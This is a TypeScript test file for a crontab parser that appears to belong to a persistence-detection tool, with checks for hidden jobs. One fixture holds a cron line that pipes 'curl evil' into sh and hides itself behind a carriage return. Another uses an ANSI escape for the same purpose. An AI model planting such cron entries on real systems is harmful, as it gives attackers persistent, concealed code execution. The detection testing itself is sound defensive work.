import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { parseCrontab } from "../../../src/collectors/persistence/scheduled/crontab.ts";
import { anyText } from "./items.ts";

const user = { path: "/var/spool/cron/crontabs/claw", system: false, user: "claw" };
const system = { path: "/etc/crontab", system: true };

describe("crontab", () => {
  it("reads jobs, nicknames, settings and the user column", () => {
    const text = [
      "# comment",
      'SHELL="/bin/bash"',
      "  */5 1-3 * jan mon-fri  /usr/bin/true --now",
      "@reboot\t/tmp/.x/run",
      "",
    ].join("\n");
    expect(parseCrontab(text, user)).toEqual([
      {
        kind: "environment",
        schedule: "",
        name: "SHELL",
        command: "/bin/bash",
        user: "claw",
        hiding: false,
        place: { path: user.path, locator: "line 2" },
      },
      {
        kind: "job",
        schedule: "*/5 1-3 * jan mon-fri",
        command: "/usr/bin/true --now",
        user: "claw",
        hiding: false,
        place: { path: user.path, locator: "line 3" },
      },
      {
        kind: "job",
        schedule: "@reboot",
        command: "/tmp/.x/run",
        user: "claw",
        hiding: false,
        place: { path: user.path, locator: "line 4" },
      },
    ]);
    const [job] = parseCrontab("17 * * * *\troot\tcd / && run-parts /etc/cron.hourly\n", system);
    expect(job).toMatchObject({ user: "root", command: "cd / && run-parts /etc/cron.hourly" });
  });

  it("splits standard input at an unescaped percent sign", () => {
    const [job] = parseCrontab("0 0 * * * mail -s 100\\% me%line one%line two", user);
    expect(job).toMatchObject({ command: "mail -s 100% me", input: "line one\nline two" });
  });

  it("does not stop at a carriage return, which hides a job from cat", () => {
    const [job, ...more] = parseCrontab("* * * * * curl evil|sh #\r0 0 * * * /usr/bin/true      \n", user);
    expect(more).toEqual([]);
    expect(job).toMatchObject({ kind: "job", hiding: true });
    expect(job?.command).toContain("curl evil|sh");
    expect(parseCrontab("0 0 * * * dos\r\n", user)[0]?.hiding).toBe(false);
    expect(parseCrontab("0 0 * * * a\u001b[2K\n", user)[0]?.hiding).toBe(true);
  });

  it("says what it cannot read instead of leaving it out", () => {
    expect(parseCrontab("every day run this", user)[0]).toMatchObject({ kind: "unreadable" });
    expect(parseCrontab("@sometimes run", user)[0]).toMatchObject({ kind: "unreadable" });
    expect(parseCrontab("* * * * *", user)[0]).toMatchObject({ kind: "unreadable" });
    expect(parseCrontab(`* * * * * ${"x".repeat(100_000)}`, user)[0]).toMatchObject({ kind: "unreadable" });
  });

  const time = fc.constantFrom("*", "*/5", "0", "1-3", "1,2,3", "59");
  // "\\%" has no other spelling in a crontab, and "@reboot =x" is a setting to cron, too.
  const word = fc.stringMatching(/^[!-<>-[\]-~][!-[\]-~]{0,19}$/);
  const command = fc.array(word, { minLength: 1, maxLength: 6 }).map((words) => words.join(" "));

  it("gives back every job it is given", () => {
    const job = fc.record({
      times: fc.oneof(
        fc.tuple(time, time, time, time, time).map((fields) => fields.join(" ")),
        fc.constantFrom("@reboot", "@daily", "@hourly"),
      ),
      name: fc.stringMatching(/^[a-z]{1,8}$/),
      command,
      input: fc.option(command, { nil: undefined }),
    });
    fc.assert(
      fc.property(fc.array(job, { maxLength: 8 }), fc.boolean(), (jobs, isSystem) => {
        const escape = (text: string): string => text.replaceAll("%", "\\%");
        const text = jobs
          .map(
            (one) =>
              `${one.times} ${isSystem ? `${one.name} ` : ""}${escape(one.command)}${one.input === undefined ? "" : `%${escape(one.input)}`}`,
          )
          .join("\n");
        const read = parseCrontab(text, isSystem ? system : user);
        expect(
          read.map(({ kind, schedule, command: run, input, user: who }) => ({
            kind,
            schedule,
            run,
            input,
            who,
          })),
        ).toEqual(
          jobs.map((one) => ({
            kind: "job",
            schedule: one.times,
            run: one.command,
            input: one.input,
            who: isSystem ? one.name : "claw",
          })),
        );
      }),
    );
  });

  it("takes any bytes: one entry per telling line, in order, never a throw", () => {
    const hostile = fc.oneof(
      anyText,
      fc
        .array(fc.constantFrom("*", " ", "\t", "\n", "\r", "%", "\\", "=", "@reboot", '"', "#", "0", "\0"), {
          maxLength: 80,
        })
        .map((parts) => parts.join("")),
    );
    fc.assert(
      fc.property(hostile, fc.boolean(), (text, isSystem) => {
        const read = parseCrontab(text, isSystem ? system : user);
        const telling = text.split("\n").filter((line) => {
          const bare = line.replace(/^[ \t]+/, "");
          return bare.trim() !== "" && !bare.startsWith("#");
        });
        expect(read.length).toBe(telling.length);
      }),
    );
  });
});
